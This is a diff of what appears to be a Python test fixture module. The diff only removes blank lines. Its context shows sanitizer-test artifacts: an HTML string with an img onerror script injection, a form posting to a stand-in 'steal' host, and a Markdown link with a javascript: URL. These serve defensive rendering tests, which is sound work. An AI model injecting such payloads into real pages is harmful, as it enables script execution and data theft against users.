@@ -100,8 +100,6 @@ def vector_upsert(h: WireHandler, body: Any) -> None:
 
 
 CHART_PNG = png(320, 200, (220, 90, 40))
-
-
 # An HTML artifact that would run script in, or reach out of, the page if it were rendered as is.
 HOSTILE_HTML = (
     "<h2>Quarterly report</h2><p id='note'>Rendered from the flow.</p>"
@@ -110,11 +108,7 @@ HOSTILE_HTML = (
     "<img src=x onerror=\"window.top.__pwned='artifact-img'\">"
     "<form action='https://example.invalid/steal'><input name=q><button>Send</button></form>"
 )
-
-
 ARTIFACT_MARKDOWN = "### Summary\n\n**Revenue** grew. [Safe](https://example.org) [Bad](javascript:alert('md'))"
-
-
 REPORT_CSV = b"quarter,revenue\nQ1,10\nQ2,12\n"
 
 
